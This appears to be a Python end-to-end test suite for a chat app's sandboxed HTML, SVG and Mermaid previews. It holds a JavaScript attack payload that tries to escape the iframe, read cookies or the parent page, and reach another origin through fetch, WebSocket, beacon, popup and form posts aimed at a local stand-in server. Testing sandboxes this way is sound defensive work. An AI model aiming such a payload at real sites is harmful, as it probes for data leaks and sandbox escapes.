"""Test the preview of HTML and SVG: it reaches neither page nor network, and runs scripts after a second click."""

from __future__ import annotations

import contextlib
import http.server
import threading
import urllib.request
from collections.abc import Iterator
from typing import Any

import pytest

from chatcache.gateway import static
from tests.e2e.recorded_page import RecordedPage
from tests.e2e.rest_client import create_conversation
from tests.e2e.scripted_server import Script, scripted

pytestmark = pytest.mark.slow

PREVIEW = ".code:has(.code-preview) iframe"
# Every way out that a script can try; what worked is written into the document.
ATTACK = """<style>p { color: rgb(1, 2, 3) }</style><p id="ran">no</p>
<script>
const done = [];
const attempt = (name, run) => { try { if (run()) done.push(name); } catch {} };
const attempts = [["fetch", () => fetch("URL/fetch", {mode: "no-cors"})],
  ["fetch API", () => fetch("OWN/v1/models")],
  ["frame", () => new Promise((done, failed) => {
    const frame = document.createElement("iframe"); frame.src = "URL/frame"; document.body.append(frame);
    setTimeout(failed, 300); })]];
attempt("parent", () => parent.document);
attempt("top address", () => top.location.href);
attempt("cookie", () => (document.cookie = "a=b", true));
attempt("storage", () => localStorage);
attempt("session", () => sessionStorage);
attempt("popup", () => open("URL/popup"));
attempt("socket", () => { new WebSocket("WS/socket").onopen = () => done.push("socket opened"); });
attempt("beacon", () => { navigator.sendBeacon("URL/beacon"); });
const loads = [["img", "src", "URL/img"], ["script", "src", "URL/script"], ["link", "href", "URL/css"],
  ["script", "src", "OWN/theme.js"], ["video", "src", "URL/video"], ["object", "data", "URL/object"]];
for (const [tag, name, value] of loads) {
  const node = Object.assign(document.createElement(tag), {rel: "stylesheet", [name]: value,
    onload: () => done.push(tag + " loaded")});
  document.body.append(node);
}
const form = Object.assign(document.createElement("form"), {action: "URL/form", method: "post"});
document.body.append(form);
attempt("form", () => { form.submit(); });
Promise.all(attempts.map(([name, run]) => run().then(() => done.push(name), () => {}))).then(() => {
  document.getElementById("ran").textContent = "yes:" + done.join();
});
onclick = () => { location = "URL/leave"; };
</script>"""


@contextlib.contextmanager
def _listening() -> Iterator[tuple[str, list[str]]]:
    """A server of another origin, and the paths that were requested of it."""
    asked: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.end_headers()

        do_POST = do_GET

        def log_message(self, format: str, *args: Any) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_port}", asked
    finally:
        server.shutdown()
        thread.join()
        server.server_close()


def _attack(chat: RecordedPage, other: str) -> Any:
    """Show the preview of the attack; return the paragraph that names the ways out that worked."""
    html = ATTACK
    for name, value in (("URL", other), ("OWN", chat.server), ("WS", other.replace("http", "ws"))):
        html = html.replace(name, value)
    made = create_conversation(chat.server, ["Attack", f"```html\n{html}\n```"])
    chat.page.evaluate("hash => location.hash = hash", made)
    chat.page.click(".code-preview")
    return chat.page.frame_locator(PREVIEW).locator("#ran")


def test_preview_runs_scripts_without_page_storage_and_network(chat: RecordedPage) -> None:
    with _listening() as (other, asked):
        result = _attack(chat, other)
        chat.page.click("text=Run scripts")
        result.filter(has_text="yes").wait_for()
        assert result.inner_text() == "yes:"
        assert result.evaluate("node => getComputedStyle(node).color") == "rgb(1, 2, 3)"
        result.click()  # it tries to leave: the policy of the page forbids frames of other origins
        result.wait_for(state="detached")
        assert asked == []
    assert chat.page.url.startswith(chat.server) and chat.page.evaluate("document.cookie") == ""
    chat.page.click(".code-preview")
    assert chat.page.locator("iframe").count() == 0 and not chat.page.is_visible("text=Run scripts")
    assert chat.page.locator(".code pre").is_visible()
    errors = chat.problems()
    assert any("Content Security Policy" in error for error in errors), "the attempts were made"
    assert any("frame-src 'self'" in error for error in errors), "it tried to leave"
    chat.ignore_problems()


def test_preview_runs_no_script_before_a_second_click(chat: RecordedPage) -> None:
    with _listening() as (other, asked):
        html = f"""<!doctype html><link rel="preconnect" href="{other}"><style>p {{ color: rgb(1, 2, 3) }}</style>
<p id="ran" onclick="this.textContent = 'handler'">no</p><img src="x:" onerror="document.title = 'error'">
<svg><script>document.getElementById("ran").textContent = "SVG"</script></svg>
<script>document.getElementById("ran").textContent = "script"</script>"""
        made = create_conversation(chat.server, ["Page", f"```html\n{html}\n```"])
        chat.page.evaluate("hash => location.hash = hash", made)
        chat.page.click(".code-preview")
        shown = chat.page.frame_locator(PREVIEW)
        shown.locator("#ran").click()
        assert shown.locator("#ran").inner_text() == "no"
        assert shown.locator("#ran").evaluate("node => getComputedStyle(node).color") == "rgb(1, 2, 3)"
        assert shown.locator("#ran").evaluate("() => document.compatMode") == "CSS1Compat"
        assert shown.locator("link").count() == 0 and not shown.locator("#ran").evaluate("() => document.title")
        chat.page.click("text=Run scripts")
        shown.locator("#ran:has-text('script')").wait_for()
        assert asked == []
    assert any("Content Security Policy" in problem for problem in chat.problems()), "the handlers were refused"
    chat.ignore_problems()


def test_preview_draws_a_mermaid_diagram_or_says_why_not(chat: RecordedPage) -> None:
    text = "flowchart LR\n  %% </script>\n  A[Start] --> B[End]"
    made = create_conversation(
        chat.server, ["Draw", f"```mermaid\n{text}\n```\n\n```mermaid\nflowchart LR\n  A -->\n```"]
    )
    chat.page.evaluate("hash => location.hash = hash", made)
    for index in (0, 1):
        chat.page.locator(".code-preview").nth(index).click()
    drawn, failed = (chat.page.frame_locator(PREVIEW).nth(index) for index in (0, 1))
    drawn.locator("svg g.node").nth(1).wait_for()
    assert drawn.locator("svg").evaluate("node => getComputedStyle(node).maxWidth") != "none"
    failed.locator("#diagram:has-text('Parse error')").wait_for()
    assert chat.page.locator("text=Run scripts").locator("visible=true").count() == 0


def test_preview_document_alone_has_no_origin(server: str, chat: RecordedPage) -> None:
    with urllib.request.urlopen(f"{server}/preview.html", timeout=10) as reply:
        policy = reply.headers["content-security-policy"]
    assert policy.startswith("sandbox allow-scripts; default-src 'none';")
    chat.page.goto(f"{server}/preview.html")
    assert chat.page.evaluate("origin") == "null"


def test_weaker_policy_of_the_preview_is_detected(browser: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    """Injected bug: the preview is served with a policy that allows everything but an origin."""
    weak = static._PREVIEW_HEADERS | {"content-security-policy": "sandbox allow-scripts"}
    monkeypatch.setattr(static, "_PREVIEW_HEADERS", weak)
    with scripted(Script()) as server, _listening() as (other, asked):
        context = browser.new_context()
        page = context.new_page()
        html = f"<p id=ran>yes</p><img src='{other}/img'>"
        page.goto(f"{server}/preview.html")
        page.evaluate("text => postMessage({text, scripts: true}, '*')", html)  # its own parent: it is not in a frame
        page.locator("#ran").wait_for()
        for _ in range(200):
            if asked:
                break
            page.wait_for_timeout(50)
        assert asked == ["/img"]
        context.close()


def test_svg_is_shown_during_a_later_answer(chat: RecordedPage, endless: None) -> None:
    chat.reload()
    svg = '<svg viewBox="0 0 1 1"><circle r="1"/></svg>'
    made = create_conversation(chat.server, ["Draw", f"```svg\n{svg}\n```\n\n```python\npass\n```"])
    chat.page.evaluate("hash => location.hash = hash", made)
    chat.page.wait_for_selector(".code >> nth=1")
    assert chat.page.locator(".code-preview").count() == 1, "Python has no preview"
    chat.say("Tell me a story about a dragon")
    chat.until("[...document.querySelectorAll('.answer .prose')].at(-1)?.textContent.length > 20")
    chat.page.click(".code-preview")
    shown = chat.page.frame_locator(PREVIEW)
    shown.locator("circle").wait_for()
    before = chat.page.evaluate("[...document.querySelectorAll('.answer .prose')].at(-1).textContent.length")
    chat.until(f"[...document.querySelectorAll('.answer .prose')].at(-1).textContent.length > {before}")
    assert shown.locator("circle").count() == 1, "the frame stays while text arrives"
    chat.page.keyboard.press("Escape")
    chat.wait_end(0)
